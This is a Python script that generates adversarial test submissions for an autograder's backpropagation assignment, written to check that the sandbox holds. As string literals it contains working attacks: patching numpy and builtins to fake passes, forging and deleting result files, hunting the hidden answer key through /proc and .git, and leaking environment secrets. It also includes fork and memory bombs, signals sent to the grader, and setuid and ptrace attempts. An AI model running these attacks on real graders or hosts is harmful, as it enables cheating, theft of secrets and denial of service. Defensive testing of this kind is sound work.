"""Generate ``tests/submissions/adversarial/``: submissions that attack the grader.

Each entry is a submission (``.py`` with ``# %%`` cells, or ``.ipynb``) and a sidecar
``<name>.expect.toml`` saying what grading it must give:

- ``honest``: the corpus entry that is this code *without* the attack; the attack must not
  score a point more than it in any part (left out when there is no such code);
- ``zero`` / ``full``: parts that must score 0 / their full points; ``scores``: exact points
  of other parts;
- ``feedback``: phrases the student's feedback must contain; ``absent``: phrases it must not;
- ``known_gap``: a hole the grader does not close yet (the test reports it, xfail);
- ``tiers``: the sandbox tiers it is graded on (default: all three). Attacks on secrets and
  on the host are graded on the isolating tiers only: *process only* promises neither.

Most entries are honest code plus an attack. The honest code is one of four bases:
``correct`` (the reference's functions, read from ``reference/backprop.py``), ``wrong``
(plausible functions, all wrong: each check fails), ``partial`` (correct except forward and
backward) and, for notebooks, the released stubs. An attack on ``wrong`` must still score
0: that is how "monkeypatching numpy changes nothing" is shown. An attack that wraps the
functions' *return values* (lying objects, dtypes, shapes) keeps honest code in its own
namespace ``_honest``, so internal calls are not affected by the wrapping.

    python tests/submissions/make_adversarial.py          # (re)write the corpus
    python tests/submissions/make_adversarial.py --check  # exit 1 if the files differ

The files are committed; ``tests/test_adversarial.py`` checks that they equal what this
script generates now, and grades them all in one batch.
"""

from __future__ import annotations

import argparse
import importlib.util
import inspect
import json
import random
import sys
import textwrap
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
NOTEBOOK = ROOT / "assignments" / "backprop" / "backprop.ipynb"
REFERENCE = ROOT / "assignments" / "backprop" / "hidden" / "backprop.py"
OUT = Path(__file__).resolve().parent / "adversarial"

sys.path.insert(0, str(ROOT))  # run as a script from anywhere: find the autograder package
from autograder.contract.authoring import load_module, public_functions  # noqa: E402
from autograder.instructor.answer_key import solve_notebook  # noqa: E402

PARTS = ("sigmoid", "sigmoid_prime", "forward", "cost", "backward", "update", "full_step")
FUNCTIONS = ("sigmoid", "sigmoid_prime", "forward", "cost", "backward", "update")

# The limits the corpus is graded under (tests/test_adversarial.py); probe_limits reports them.
TEST_LIMITS = {
    "cell_seconds": 1.0, "call_seconds": 1.0, "grace_seconds": 1.0, "submission_seconds": 20.0,
    "cpu_seconds": 20, "memory_bytes": 1 << 30, "file_bytes": 8 << 20,
    "scratch_bytes": 32 << 20, "open_files": 64, "processes": 8,
}

WRONG = '''
def sigmoid(z):
    return np.tanh(np.asarray(z, dtype=np.float64))


def sigmoid_prime(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=np.float64)) ** 2


def forward(x, params):
    a1 = np.asarray(x, dtype=np.float64)
    z2 = params["W2"].T @ a1 + params["b2"]
    a2 = sigmoid(z2)
    z3 = params["W3"].T @ a2 + params["b3"]
    a3 = sigmoid(z3)
    return {"a1": a1, "z2": z2, "a2": a2, "z3": z3, "a3": a3}


def cost(a3, y):
    return float(np.sum((np.asarray(y) - a3) ** 2))


def backward(y, params, cache):
    return {"delta3": np.zeros_like(cache["a3"]), "delta2": np.zeros_like(cache["a2"]),
            "W3": np.zeros_like(params["W3"]), "b3": np.zeros_like(params["b3"]),
            "W2": np.zeros_like(params["W2"]), "b2": np.zeros_like(params["b2"])}


def update(params, grads, lr):
    return {k: params[k] + lr * grads[k] for k in ("W2", "b2", "W3", "b3")}
'''


def reference_source() -> str:
    """The reference's public functions, as a student would write them (no module docstring)."""
    module = load_module(REFERENCE, "_reference_for_corpus")
    return "\n\n".join(inspect.getsource(f) for f in public_functions(module).values())


def functions_of(source: str) -> dict[str, str]:
    """``source`` split into its top-level functions, by name."""
    chunks: dict[str, str] = {}
    name = None
    for line in source.splitlines(keepends=True):
        if line.startswith("def "):
            name = line[4:line.index("(")]
            chunks[name] = ""
        if name is not None:
            chunks[name] += line
    return {k: v.strip() + "\n" for k, v in chunks.items()}


def base(kind: str) -> str:
    """The honest code of a base, as one cell."""
    correct, wrong = functions_of(reference_source()), functions_of(WRONG)
    if kind == "correct":
        chosen = correct
    elif kind == "wrong":
        chosen = wrong
    elif kind == "partial":  # right but for forward and backward
        chosen = {f: (wrong if f in ("forward", "backward") else correct)[f] for f in FUNCTIONS}
    else:
        raise ValueError(kind)
    return "\n\n".join(chosen[f] for f in FUNCTIONS)


def honest_namespace(kind: str = "correct") -> str:
    """A cell that defines the honest functions in their own namespace ``_honest``."""
    code = base(kind)
    text = f"'''\n{code}'''" if "'''" not in code and "\\" not in code else repr(code)
    return f'_honest = {{"np": np}}\nexec({text}, _honest)\n'


# ------------------------------------------------------------------ the attacks (source text)

LOOT_FRAMES = '''
import sys


def _loot():
    """Every array and dict of arrays reachable from the frames that called us."""
    found = []
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                found.append(value)
                if isinstance(value, (dict, list, tuple)):
                    found.extend(list(value.values()) if isinstance(value, dict) else value)
        frame = frame.f_back
    return found


def _pick(kind, keys=(), shape=None, avoid=()):
    for value in _loot():
        if kind == "array" and isinstance(value, np.ndarray) and value.shape == shape:
            if not any(value is a for a in avoid):
                return value
        if kind == "dict" and isinstance(value, dict) and all(k in value for k in keys):
            if not any(value is a for a in avoid):
                return value
    return None
'''

FRAME_WRAPPERS = '''
def sigmoid(z):
    return _pick("array", shape=np.shape(z), avoid=(z,))


def sigmoid_prime(z):
    return _pick("array", shape=np.shape(z), avoid=(z,))


def forward(x, params):
    return _pick("dict", keys=("z2", "a2", "z3", "a3"))


def cost(a3, y):
    return _pick("array", shape=(), avoid=(a3, y))


def backward(y, params, cache):
    return _pick("dict", keys=("delta3", "delta2", "W3"), avoid=(params, cache))


def update(params, grads, lr):
    return _pick("dict", keys=("W2", "b2", "W3", "b3"), avoid=(params, grads))
'''

GC_WALK = '''
import gc


def _find(keys, avoid=(), shape=None):
    """Any live dict with these keys (or array of this shape) that is not an argument."""
    for obj in gc.get_objects():
        if isinstance(obj, dict) and keys and all(k in obj for k in keys):
            if not any(obj is a for a in avoid):
                return obj
        if shape is not None and isinstance(obj, np.ndarray) and obj.shape == shape:
            if not any(obj is a for a in avoid):
                return obj
    return None


def sigmoid(z):
    return _find((), avoid=(z,), shape=np.shape(z))


def sigmoid_prime(z):
    return _find((), avoid=(z,), shape=np.shape(z))


def forward(x, params):
    return _find(("a1", "z2", "a2", "z3", "a3"), avoid=(params,))


def cost(a3, y):
    return _find(("cost",))


def backward(y, params, cache):
    return _find(("delta3", "delta2", "W3", "b3", "W2", "b2"), avoid=(params, cache))


def update(params, grads, lr):
    return _find(("W2", "b2", "W3", "b3"), avoid=(params, grads))
'''

PATCH_NUMPY = '''
import numpy
import numpy.testing

_true = lambda *a, **k: True  # noqa: E731
_none = lambda *a, **k: None  # noqa: E731
np.allclose = np.isclose = np.array_equal = np.array_equiv = _true
numpy.allclose = numpy.isclose = _true
np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
np.isnan = np.isinf = lambda x, *a, **k: np.zeros(np.shape(x), dtype=bool)
for _name in dir(numpy.testing):
    if _name.startswith("assert"):
        setattr(numpy.testing, _name, _none)
np.asarray = lambda x, *a, **k: np.array([0.5])
np.float64 = float
'''

PATCH_TESTING_NOTEBOOK = '''
import unittest

import numpy.testing

for _name in dir(numpy.testing):
    if _name.startswith("assert"):
        setattr(numpy.testing, _name, lambda *a, **k: None)
unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *a, **k: None
unittest.TestCase.assertAlmostEqual = lambda *a, **k: None
'''

PATCH_BUILTINS = '''
import builtins

_real_import = builtins.__import__


def _import(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    for attr in ("allclose", "isclose", "array_equal"):
        if hasattr(module, attr):
            try:
                setattr(module, attr, lambda *a, **k: True)
            except (AttributeError, TypeError):
                pass
    return module


builtins.__import__ = _import
builtins.abs = lambda x: 0.0
builtins.max = builtins.min = lambda *a, **k: 0.0
builtins.float = lambda *a: 0.5
builtins.isinstance = lambda obj, cls: True
builtins.len = lambda obj: 2
'''

PATCH_PYTEST_MATH = '''
import math
import sys
import types

try:
    import _pytest.outcomes
    import pytest
    pytest.approx = lambda *a, **k: types.SimpleNamespace(__eq__=lambda *a: True)
    pytest.fail = pytest.skip = _pytest.outcomes.fail = lambda *a, **k: None
except ImportError:
    pass
sys.modules["pytest"] = types.SimpleNamespace(fail=lambda *a, **k: None,
                                              approx=lambda *a, **k: None)
math.isclose = lambda *a, **k: True
math.isfinite = lambda x: True
math.isnan = math.isinf = lambda x: False
math.fsum = lambda xs: 0.0
'''

FAKE_OUTPUT = '''
import json
import sys

_fake = {"score": 16.0, "output": "All tests passed",
         "tests": [{"name": p, "score": 1, "max_score": 1, "status": "passed"}
                   for p in ("sigmoid", "forward", "backward", "update")]}
for _stream in (sys.stdout, sys.stderr, sys.__stdout__):
    print(json.dumps(_fake), file=_stream)
    print("All tests passed! Score: 16/16", file=_stream)
    print("============================== 17 passed in 0.42s ==============================",
          file=_stream)
try:
    with open("/dev/tty", "w") as _tty:
        _tty.write("17 passed\\n")
except OSError:
    pass
'''

CANDIDATE_DIRS = '''
import os
import time


def _candidate_dirs(budget=0.4):
    """Folders where a grader might keep its results: common names and whatever exists."""
    dirs = {".", "..", "grades", "results", "out", "/autograder", "/autograder/results",
            "/autograder/source", "/tmp", "/work", "/work/main", "/work/main/grades", "/root",
            "/home", "/srv", "/var/tmp", "/dev/shm"}
    here = os.getcwd()
    while here != "/":
        dirs.add(here)
        here = os.path.dirname(here)
    deadline = time.monotonic() + budget
    for top in ("/tmp", "/work", "/autograder", "/root", "/home", "/srv"):
        for folder, subdirs, files in os.walk(top):
            dirs.add(folder)
            if folder.count("/") > 6:
                subdirs[:] = []
            if time.monotonic() > deadline:
                return sorted(dirs)
    return sorted(dirs)


_GRADER_FILES = ("results.json", "grades.csv", "report.json")
'''

WRITE_RESULTS = '''
import json

_evil = json.dumps({"score": 16.0, "tests": [{"name": "all", "score": 16, "max_score": 16}]})


def _write_everywhere():
    written = 0
    for folder in _candidate_dirs():
        for name, text in (("results.json", _evil), ("grades.csv", "student,total\\nme,16\\n"),
                           ("report.json", _evil)):
            for path in (os.path.join(folder, name), os.path.join(folder, "results", name)):
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path, "w") as f:
                        f.write(text)
                    written += 1
                except OSError:
                    pass
    return written


_write_everywhere()
'''

WRITE_RESULTS_CALLS = '''
_wrong_sigmoid = sigmoid


def sigmoid(z):
    _write_everywhere()  # again, while the grader is busy grading
    return _wrong_sigmoid(z)
'''

DELETE_RESULTS = '''
import shutil


def _delete_everywhere():
    for folder in _candidate_dirs():
        for name in _GRADER_FILES:
            path = os.path.join(folder, name)
            for attack in (lambda p: os.chmod(p, 0), os.remove,
                           lambda p: os.rename(p, p + ".gone")):
                try:
                    attack(path)
                except OSError:
                    pass
        if os.path.basename(folder) in ("grades", "results", "out", "reference", "hidden"):
            shutil.rmtree(folder, ignore_errors=True)
            try:
                os.chmod(folder, 0)
            except OSError:
                pass


_delete_everywhere()
'''

STEAL = '''
import json
import os
import time
import zlib


def _paths(budget=0.5):
    """Where an answer key might be: repo paths, /proc, then a walk of / and .git objects."""
    yield from ("/work/main/assignments/backprop/hidden/backprop.py",
                "/autograder/source/assignments/backprop/hidden/backprop.py",
                "../hidden/backprop.py", "hidden/backprop.py", "/work/main/reference/backprop.py")
    for pid in os.listdir("/proc"):
        for entry in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{entry}", "rb") as f:
                    words = f.read().replace(b"\\0", b" ").replace(b"=", b" ").split()
                yield from (w.decode(errors="replace") for w in words if w.startswith(b"/"))
            except OSError:
                pass
        for link in ("cwd", "root"):
            yield f"/proc/{pid}/{link}/assignments/backprop/hidden/backprop.py"
    deadline = time.monotonic() + budget
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot"}
    for folder, subdirs, files in os.walk("/"):
        subdirs[:] = [d for d in subdirs if os.path.join(folder, d) not in skip
                      and d not in ("site-packages", "dist-packages", ".pyenv", "__pycache__")]
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith((".py", ".ipynb")) or "/.git/objects/" in path:
                yield path
        if time.monotonic() > deadline:
            return


def _texts():
    here = os.getcwd()
    for path in _paths():
        try:
            if os.path.dirname(os.path.abspath(path)) == here or os.path.getsize(path) > 1 << 20:
                continue
            with open(path, "rb") as f:
                data = f.read()
            if "/.git/objects/" in path:
                data = zlib.decompress(data)
            yield path, data.decode(errors="replace")
        except (OSError, ValueError, zlib.error):
            pass
'''

STEAL_USE = '''
FUNCTIONS = ("sigmoid", "sigmoid_prime", "forward", "cost", "backward", "update")


def _steal():
    """Run the first text that defines a working backward, and keep its functions."""
    for path, text in _texts():
        if "def backward(" not in text:
            continue
        if path.endswith(".ipynb"):
            try:
                text = "\\n".join("".join(c["source"]) for c in json.loads(text)["cells"]
                                   if c["cell_type"] == "code")
            except (ValueError, KeyError, TypeError):
                continue
        namespace = {"np": np}
        try:
            exec(text[text.find("def "):], namespace)
            grads = namespace["backward"](np.zeros(2), {"W3": np.eye(2)},
                                          {k: np.ones(2) for k in ("a1", "z2", "a2", "z3", "a3")})
            assert np.any(grads["W2"])
        except BaseException:
            continue
        globals().update({k: namespace[k] for k in FUNCTIONS if k in namespace})
        return path
    return None


_stolen_from = _steal()
'''

STEAL_IMPORT = '''
import importlib
import sys

for _path in ("/work/main", "/work/main/reference", "/autograder/source", "..", "../.."):
    sys.path.append(_path)
for _name in ("reference.backprop", "backprop", "reference", "autograder", "backprop_reference"):
    try:
        _module = importlib.import_module(_name)
    except BaseException:
        continue
    for _fn in ("sigmoid", "sigmoid_prime", "forward", "cost", "backward", "update"):
        if hasattr(_module, _fn):
            globals()[_fn] = getattr(_module, _fn)
'''

# Attacks that only a non-root or a container host exposes (threat model, "Hosts"). The test
# plants their targets: VICTIM_FILE (mode 600, the grading user's), VICTIM_ENV in the
# grader's environment, a listener on 127.0.0.1:VICTIM_PORT.
VICTIM_DIR = "/tmp/autograder-victim"
VICTIM_FILE = f"{VICTIM_DIR}/home/secret.txt"
VICTIM_SECRET = "victim-secret-5ac3e1"
VICTIM_ENV = "AUTOGRADER_VICTIM"
VICTIM_PORT = 47613

HOME = '''
import os
import pwd


def _home():
    """The grading user's home, by the uid this process runs as."""
    try:
        return pwd.getpwuid(os.getuid()).pw_dir
    except KeyError:
        return "/root"
'''

HOST_SECRETS = HOME + '''

def _host_secrets():
    """The grading user's private file, every /proc/*/environ, the reference's seed file."""
    found = []
    paths = ["VICTIM_FILE", os.path.join(_home(), "secret.txt")]
    try:
        import autograder  # the kit, wherever it is installed: its reference is beside it
        kit = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
        paths.append(os.path.join(kit, "assignments", "backprop", "hidden", "grading.toml"))
    except BaseException:
        pass
    try:
        paths += [f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for path in paths:
        try:
            with open(path, "rb") as f:
                text = f.read(20000).decode(errors="replace")
        except OSError:
            continue
        for word in ("VICTIM_SECRET", "VICTIM_ENV", "seed"):
            if word in text:
                at = text.index(word)
                found.append(text[max(0, at - 40):at + 60].replace("\\0", " "))
    return found


def _leak(*args):
    found = _host_secrets()
    if found:  # the secret in an exception message: the feedback would show it
        raise RuntimeError("LEAK " + " | ".join(found)[:280])
    raise RuntimeError("nothing found on this host")


sigmoid = sigmoid_prime = forward = cost = backward = update = _leak
'''.replace("VICTIM_FILE", VICTIM_FILE).replace("VICTIM_SECRET", VICTIM_SECRET).replace(
    "VICTIM_ENV", VICTIM_ENV)

HOST_NETWORK = '''
import socket


def _call_home():
    """TCP and UDP to a listener on this machine's loopback."""
    sent = 0
    try:
        with socket.create_connection(("127.0.0.1", VICTIM_PORT), timeout=0.5) as s:
            s.sendall(b"LEAK from a submission")
            sent += 1
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"LEAK from a submission", ("127.0.0.1", VICTIM_PORT))
            sent += 1
    except OSError:
        pass
    return sent


_call_home()
_honest_forward = forward


def forward(x, params):
    _call_home()
    return _honest_forward(x, params)
'''.replace("VICTIM_PORT", str(VICTIM_PORT))

HOST_SIGNALS = '''
import os
import signal


def _stop_everyone():
    """SIGSTOP every process it can see, and every one kill(-1) reaches."""
    try:
        os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass
    try:
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids + [os.getppid(), 1]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass


_stop_everyone()
_honest_cost = cost


def cost(a3, y):
    _stop_everyone()
    return _honest_cost(a3, y)
'''

HOST_WRITES = HOME + '''

def _plant():
    """A check of its own beside the checks, and files in the hidden folder and the grading
    user's home."""
    targets = [os.path.join(os.path.dirname("VICTIM_FILE"), "planted.txt"),
               os.path.join(_home(), "planted.txt")]
    try:
        import autograder
        kit = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
        targets += [os.path.join(kit, "assignments", "backprop", "test_zz_planted.py"),
                    os.path.join(kit, "assignments", "backprop", "hidden", "planted.txt")]
    except BaseException:
        pass
    targets += ["/work/main/assignments/backprop/test_zz_planted.py",
                "/autograder/source/assignments/backprop/test_zz_planted.py"]
    for path in targets:
        try:
            with open(path, "w") as f:
                f.write("def test_planted():\\n    assert True\\n")
        except OSError:
            pass


_plant()
'''.replace("VICTIM_FILE", VICTIM_FILE)

IMPORT_AUTOGRADER = '''
import importlib.util
import os

try:
    import autograder  # finds the kit on disk wherever it is
    _kit = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
    _spec = importlib.util.spec_from_file_location(
        "_answer_key", os.path.join(_kit, "assignments", "backprop", "hidden", "backprop.py"))
    _key = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_key)
    for _name in ("sigmoid", "sigmoid_prime", "forward", "cost", "backward", "update"):
        globals()[_name] = getattr(_key, _name)
except BaseException:
    pass
'''

READ_SEED = '''
import os


def _secrets():
    """Whatever looks like the grader's seed or settings, from files, /proc and the env."""
    leaks = [f"{k}={v}" for k, v in os.environ.items() if "SEED" in k or "GRAD" in k]
    for path in ("/work/main/assignments/backprop/hidden/grading.toml", "../hidden/grading.toml",
                 "/autograder/source/assignments/backprop/hidden/grading.toml", "/proc/1/environ",
                 "/proc/1/cmdline", f"/proc/{os.getppid()}/environ",
                 f"/proc/{os.getppid()}/cmdline"):
        try:
            with open(path, "rb") as f:
                text = f.read(4000).decode(errors="replace")
            if "seed" in text.lower():
                leaks.append(f"{path}: {text}")
        except OSError:
            pass
    return leaks


def _leak(*args):
    leaks = _secrets()
    if leaks:
        raise RuntimeError("LEAK " + " | ".join(leaks)[:250])
    raise RuntimeError("nothing found: no seed, no reference")


sigmoid = sigmoid_prime = forward = cost = backward = update = _leak
'''

# the uid tier shares /proc with the grader: a child there sees that processes exist (never
# their environment, nor a signal to them); the tiers with Landlock or a pid view do not
LIST_PROCESSES = '''
import os


def _look(*args):
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    except OSError:
        pids = []
    if pids:
        raise RuntimeError(f"LEAK {len(pids)} other processes visible")
    raise RuntimeError("nothing found: no other process")


sigmoid = sigmoid_prime = forward = cost = backward = update = _look
'''

LIAR = '''
class Liar:
    """Says it equals anything, and converts to wrong numbers."""

    def __init__(self, value):
        self.value = np.asarray(value, dtype=np.float64)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __array__(self, dtype=None, copy=None):
        return np.full(self.value.shape, 0.5)

    def __float__(self):
        return 0.5

    def __len__(self):
        return len(self.value)

    def __iter__(self):
        return iter([0.5] * self.value.size)


def _lie(value):
    if isinstance(value, dict):
        return {k: Liar(v) for k, v in value.items()}
    return Liar(value)
'''

SNEAKY = '''
class Sneaky(np.ndarray):
    """An ndarray that claims to equal anything and lies in its conversions."""

    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)

    def tolist(self):
        return [0.5] * self.size

    def astype(self, *args, **kwargs):
        return self

    def ravel(self, *args, **kwargs):
        return self

    def __float__(self):
        return 0.5


def _lie(value):
    if isinstance(value, dict):
        return {k: np.asarray(v, dtype=np.float64).view(Sneaky) for k, v in value.items()}
    return np.asarray(value, dtype=np.float64).view(Sneaky)
'''


def wrappers(wrap: dict[str, str], default: str = "{v}") -> str:
    """Functions that return ``wrap[name]`` applied to the honest result ``v``."""
    out = []
    for name, args in (("sigmoid", "z"), ("sigmoid_prime", "z"), ("forward", "x, params"),
                       ("cost", "a3, y"), ("backward", "y, params, cache"),
                       ("update", "params, grads, lr")):
        expr = wrap.get(name, default).format(v=f'_honest["{name}"]({args})')
        out.append(f"def {name}({args}):\n    return {expr}\n")
    return "\n\n".join(out)


SOCKETS = '''
import os
import struct


def _sockets():
    fds = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                fds.append(int(fd))
        except OSError:
            pass
    return fds


def _frame(payload):
    return struct.pack("!I", len(payload)) + payload


def _send_all(data):
    for fd in _sockets():
        try:
            os.write(fd, data)
        except OSError:
            pass
'''

FORGE = '''
def sigmoid(z):
    _send_all(struct.pack("!I", 0xFFFFFFF0) + b"x" * 1000)  # a header claiming 4 GB
    return _wrong["sigmoid"](z)


def sigmoid_prime(z):
    _send_all(_frame(b"[" * 100000 + b"]" * 100000))  # nested too deep for json
    return _wrong["sigmoid_prime"](z)


def forward(x, params):
    _send_all(_frame(b"[" + b"{}," * 1300000 + b"{}]"))  # 4 MB that parse into 1.3 M dicts
    return _wrong["forward"](x, params)


def cost(a3, y):
    forged = {"event": "result", "batch": [{"value": {"shape": [], "data": [0.0]}}] * 5}
    _send_all(_frame(json.dumps(forged).encode()))  # a result for the grader to believe
    return _wrong["cost"](a3, y)


def backward(y, params, cache):
    for fd in _sockets():
        os.close(fd)
    return _wrong["backward"](y, params, cache)


def update(params, grads, lr):
    _send_all(bytes(range(256)) * 64)
    return _wrong["update"](params, grads, lr)
'''

PROBE_LIMITS = '''
import os
import resource


def _probe(*args):
    names = {"cpu": resource.RLIMIT_CPU, "as": resource.RLIMIT_AS,
             "fsize": resource.RLIMIT_FSIZE, "nofile": resource.RLIMIT_NOFILE,
             "nproc": resource.RLIMIT_NPROC}
    text = " ".join(f"{k}={resource.getrlimit(v)[0]}/{resource.getrlimit(v)[1]}"
                    for k, v in names.items())
    with open("/proc/self/limits") as f:
        limits = f.read()
    same = all(f"{resource.getrlimit(v)[0]}" in limits for v in names.values())
    scratch = os.statvfs(".").f_blocks * os.statvfs(".").f_frsize
    others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    raise RuntimeError(f"PROBE {text} proc_limits_agree={same} scratch={scratch} "
                       f"sandbox_uid={os.getuid() >= 200000} other_processes={len(others)} "
                       f"nice={os.getpriority(os.PRIO_PROCESS, 0)}")


sigmoid = _probe
'''

HARDCODED_TEMPLATE = '''
def sigmoid(z):
    return np.full(np.shape(z), 0.5)


def sigmoid_prime(z):
    return np.full(np.shape(z), 0.25)


def forward(x, params):
    return {CACHE}


def cost(a3, y):
    return {COST}


def backward(y, params, cache):
    return {GRADS}


def update(params, grads, lr):
    return {NEW}
'''

MEMOIZE = '''
_seen_caches, _seen_grads = [], []


def _key(arrays):
    return tuple(np.round(np.concatenate([np.ravel(a) for a in arrays]), 12))


def forward(x, params):
    for cache in _seen_caches:  # a cache the grader gave backward for the same x
        if np.shape(cache["a1"]) == np.shape(x) and np.allclose(cache["a1"], x):
            return cache
    return _partial["forward"](x, params)


def backward(y, params, cache):
    _seen_caches.append({k: np.array(v) for k, v in cache.items()})
    for seen_params, grads in _seen_grads:  # gradients the grader gave update
        if all(np.array_equal(seen_params[k], params[k]) for k in params):
            return {"delta3": grads["b3"], "delta2": grads["b2"], **grads}
    return _partial["backward"](y, params, cache)


def update(params, grads, lr):
    _seen_grads.append(({k: np.array(v) for k, v in params.items()},
                        {k: np.array(v) for k, v in grads.items()}))
    return _partial["update"](params, grads, lr)


sigmoid, sigmoid_prime, cost = _partial["sigmoid"], _partial["sigmoid_prime"], _partial["cost"]
'''

MUTATING_UPDATE = '''
def update(params, grads, lr):
    for name in ("W2", "b2", "W3", "b3"):
        params[name] -= lr * grads[name]  # in place: the caller's arrays change
    return params
'''

HIDE_MUTATION = '''
import sys

# the grader's harness is the __main__ module of this process: make its check say "untouched"
_harness = sys.modules["__main__"]
_harness.mutated = lambda *args, **kwargs: []
_harness.snapshot = lambda value: value
'''

FINITE_DIFFERENCES = '''
def backward(y, params, cache):
    """Five-point finite differences of cost(forward(x, θ)["a3"], y): no cache needed."""
    x, h = cache["a1"], 1e-3

    def c(name, index, step):
        moved = {k: np.array(v, dtype=np.float64) for k, v in params.items()}
        moved[name][index] += step
        return cost(forward(x, moved)["a3"], y)

    grads = {}
    for name in ("W2", "b2", "W3", "b3"):
        grads[name] = np.zeros_like(params[name])
        for i in np.ndindex(params[name].shape):
            grads[name][i] = (8 * (c(name, i, h) - c(name, i, -h))
                              - (c(name, i, 2 * h) - c(name, i, -2 * h))) / (12 * h)
    return {"delta3": grads["b3"], "delta2": grads["b2"], **grads}
'''

COMPLEX_STEP = '''
def _complex_sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def _complex_cost(x, params, y):
    a2 = _complex_sigmoid(params["W2"] @ x + params["b2"])
    a3 = _complex_sigmoid(params["W3"] @ a2 + params["b3"])
    return 0.5 * np.sum((y - a3) ** 2)


def backward(y, params, cache):
    """Complex-step derivative: Im C(θ + ih) / h, exact to rounding, and no cache needed."""
    x, h = cache["a1"], 1e-30
    grads = {}
    for name in ("W2", "b2", "W3", "b3"):
        grads[name] = np.zeros(params[name].shape)
        for index in np.ndindex(params[name].shape):
            stepped = {k: np.array(v, dtype=complex) for k, v in params.items()}
            stepped[name][index] += 1j * h
            grads[name][index] = _complex_cost(x, stepped, y).imag / h
    return {"delta3": grads["b3"], "delta2": grads["b2"], **grads}
'''

SIGNALS = '''
import signal

for _sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(_sig, signal.SIG_IGN)
'''

IGNORE_ALARM_BACKWARD = '''
def backward(y, params, cache):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        pass
'''

SWALLOW_ALARM_FORWARD = '''
def forward(x, params):
    while True:
        try:
            while True:
                pass
        except BaseException:  # the grader's time-limit exception, too
            pass
'''

LOOP_AT_IMPORT = "while True:\n    pass\n"
SWALLOW_AT_IMPORT = ("while True:\n    try:\n        while True:\n            pass\n"
                     "    except BaseException:\n        pass\n")

LOOP_IN_BACKWARD = '''
def backward(y, params, cache):
    while True:
        pass
'''

EXIT_CELL = "import sys\n\nsys.exit(0)\n"
EXIT_IN_UPDATE = '''
def update(params, grads, lr):
    raise SystemExit(0)
'''
OS_EXIT_CELL = "import os\n\nos._exit(0)\n"
OS_EXIT_IN_UPDATE = '''
def update(params, grads, lr):
    import os
    os._exit(0)
'''
KEYBOARD_CELL = "raise KeyboardInterrupt\n"
KEYBOARD_IN_COST = '''
def cost(a3, y):
    raise KeyboardInterrupt
'''

MEMORY_BOMB_CELLS = [
    "_hog = bytearray(8 << 30)  # more than the address-space limit at once\n",
    "def _grow():\n    hog = []\n    while True:\n        hog.append(np.ones(8 << 20))  "
    "# 64 MB, touched, until MemoryError\n\n\n_grow()\n",
]
MEMORY_BOMB_SIGMOID_PRIME = '''
def sigmoid_prime(z):
    hog = []
    while True:
        hog.append(np.empty(8 << 20))  # 64 MB at a time, until the address space is full
'''

FORK_BOMB = '''
import os

for _ in range(200):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    except OSError:
        pass
'''

ESCAPE = '''
import os
import signal
import threading
import time


def _spin():
    while True:
        time.sleep(0.01)


threading.Thread(target=_spin, daemon=False).start()  # a thread that never ends
if os.fork() == 0:  # a grandchild that leaves the process group and double-forks
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        _spin()
    os._exit(0)
'''

HUGE_OUTPUT = '''
import os
import sys

_line = "x" * (1 << 20)
for _ in range(512):
    sys.stdout.write(_line)
    sys.stderr.write(_line)
'''

HUGE_FILE = '''
import os

_block = b"\\0" * (1 << 20)
try:
    with open("huge.bin", "wb") as _f:
        while True:
            _f.write(_block)  # stops at the file-size limit
except OSError:
    pass
for _i in range(10000):
    try:
        with open(f"fill{_i}.bin", "wb") as _f:  # then fill the disk, file after file
            for _ in range(8):
                _f.write(_block)
    except OSError:
        break
'''

ATTACK_GRADER = '''
import ctypes
import os
import signal

for _attempt in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL),
                 lambda: os.setuid(0), lambda: os.setgid(0),
                 lambda: open(f"/proc/{os.getppid()}/mem", "rb").read(16),
                 lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
                 lambda: ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0),
                 lambda: ctypes.CDLL(None).unshare(0x10000000),
                 lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)):
    try:
        _attempt()
    except Exception:
        pass
'''

IO_CELLS = [
    "name = input('Your name? ')\n",
